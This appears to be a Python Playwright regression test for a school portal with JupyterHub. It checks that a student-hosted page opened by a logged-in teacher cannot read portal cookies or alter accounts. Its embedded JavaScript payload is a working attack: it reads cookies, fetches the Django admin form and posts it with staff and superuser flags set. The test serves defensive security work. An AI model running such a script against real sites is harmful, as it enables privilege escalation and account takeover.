"""A student's own page, opened by a logged-in teacher in Chromium, cannot act on the portal (issue 9).

The attack as a student would run it: their server serves a script page (`c.ServerApp.extra_static_paths`
in their own ~/.jupyter/jupyter_server_config.py; JupyterLab's /static/ needs no login, so anyone who opens
the link runs it). A staff member, logged in to the portal, opens it. The script reads `document.cookie`,
fetches the Django admin's change form of the student with the teacher's cookies, and posts it back with
"staff" and "superuser" ticked, once with the CSRF token from the fetched form and once with the token from
the cookie. On one origin this made the student a superuser. With the hub on its own host name it must
find no portal cookie, read no admin page, and change nothing.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from playwright.sync_api import expect

from tests.e2e import flows
from tests.live import Stack

NAVIGATION_TIMEOUT = 30_000

# The student's page. It reports what it saw in <pre id="result"> as JSON.
ATTACK_PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>homework</title></head><body>
<pre id="result">running</pre>
<script>
(async () => {
  const portal = PORTAL;
  const out = {cookie: document.cookie, steps: []};
  const tokenFromCookie = (document.cookie.match(/cfps_csrftoken=([^;]+)/) || [])[1] || "";
  async function attempt(name, fn) {
    try { out.steps.push([name, await fn()]); } catch (e) { out.steps.push([name, "error: " + e]); }
  }
  let fields = null;
  await attempt("read admin form", async () => {
    const r = await fetch(portal + "/admin/accounts/user/" + USER_ID + "/change/", {credentials: "include"});
    const html = await r.text();
    const doc = new DOMParser().parseFromString(html, "text/html");
    const form = doc.querySelector("#user_form");
    if (form) {
      fields = new URLSearchParams();
      for (const el of form.querySelectorAll("input, select, textarea")) {
        if (!el.name || el.type === "submit") continue;
        if (el.type === "checkbox" || el.type === "radio") { if (el.checked) fields.append(el.name, el.value); continue; }
        if (el.tagName === "SELECT") { for (const o of el.selectedOptions) fields.append(el.name, o.value); continue; }
        fields.append(el.name, el.value);
      }
      fields.set("is_staff", "on");
      fields.set("is_superuser", "on");
    }
    return {status: r.status, url: r.url, form: !!form};
  });
  if (fields) {
    await attempt("post with the form's token", async () => {
      const r = await fetch(portal + "/admin/accounts/user/" + USER_ID + "/change/",
        {method: "POST", credentials: "include", body: fields});
      return {status: r.status};
    });
  }
  await attempt("post blind with the cookie's token", async () => {
    const body = new URLSearchParams({csrfmiddlewaretoken: tokenFromCookie, username: USERNAME,
      is_active: "on", is_staff: "on", is_superuser: "on"});
    await fetch(portal + "/admin/accounts/user/" + USER_ID + "/change/",
      {method: "POST", mode: "no-cors", credentials: "include", body});
    return "sent";
  });
  document.getElementById("result").textContent = JSON.stringify(out);
})();
</script></body></html>
"""


@pytest.fixture(scope="module")
def stack(tmp_path_factory):
    with Stack(tmp_path_factory.mktemp("attack-stack"), proxy="python") as running:
        yield running


def user_flags(stack: Stack, username: str) -> dict:
    script = (
        "import json\nfrom accounts.models import User\n"
        f"u = User.objects.get(username={username!r})\n"
        "print(json.dumps({'is_staff': u.is_staff, 'is_superuser': u.is_superuser}))\n"
    )
    return json.loads(stack.manage("shell", "-c", script).stdout.strip().splitlines()[-1])


def plant_attack_page(stack: Stack, username: str, user_id: int) -> str:
    """What the student does in their own home: a page and the server config that publishes it."""
    home = Path(stack.env["CFPS_VAR_DIR"]) / "users" / username
    (home / ".jupyter").mkdir(parents=True, exist_ok=True)
    (home / "site").mkdir(exist_ok=True)
    page = (
        ATTACK_PAGE.replace("PORTAL", json.dumps(stack.base_url))
        .replace("USER_ID", json.dumps(str(user_id)))
        .replace("USERNAME", json.dumps(username))
    )
    (home / "site" / "homework.html").write_text(page, encoding="utf-8")
    (home / ".jupyter" / "jupyter_server_config.py").write_text(
        f"c.ServerApp.extra_static_paths = [{str(home / 'site')!r}]\n", encoding="utf-8"
    )
    return stack.url(f"/jupyter/user/{username}/static/homework.html")


def start_server(stack: Stack, username: str) -> None:
    """The student starts their server (as the hub's API would for them)."""
    client = flows.new_client(stack)
    try:
        flows.hub_login(stack, client, username)
        response = client.get(f"/jupyter/hub/spawn/{username}")
        flows.wait_for_lab(stack, client, username, response)
    finally:
        client.close()


def test_a_students_page_opened_by_staff_cannot_read_portal_cookies_or_act_as_staff(stack, new_context, screenshot):
    student = flows.unique_username("stu")
    student_id = flows.create_user(stack, student)
    teacher = flows.unique_username("teacher")
    flows.create_user(stack, teacher, superuser=True)
    attack_url = plant_attack_page(stack, student, student_id)
    start_server(stack, student)

    context = new_context(locale="zh-CN")
    page = context.new_page()
    page.goto(stack.url("/accounts/login/"), timeout=NAVIGATION_TIMEOUT)
    page.locator("#id_username").fill(teacher)
    page.locator("#id_password").fill(flows.PASSWORD)
    page.locator("main form button[type=submit]").click()
    page.goto(stack.url("/admin/"), timeout=NAVIGATION_TIMEOUT)
    expect(page.locator("#user-tools")).to_contain_text(teacher)  # the teacher really is logged in to the admin

    page.goto(attack_url, timeout=NAVIGATION_TIMEOUT)
    result = page.locator("#result")
    expect(result).not_to_have_text("running", timeout=20_000)
    screenshot(page, "student-page-opened-by-staff")
    report = json.loads(result.text_content())

    assert "cfps_" not in report["cookie"], f"the student's page read portal cookies: {report['cookie']!r}"
    read = dict(report["steps"]).get("read admin form")
    assert not (isinstance(read, dict) and read.get("form")), f"the student's page read the admin form: {report}"
    assert user_flags(stack, student) == {"is_staff": False, "is_superuser": False}, report
    # The page did run (the attack was really tried), and on the hub's own origin, not the portal's.
    assert page.url.startswith(stack.hub_base_url + "/"), page.url
    assert len(report["steps"]) >= 2, report
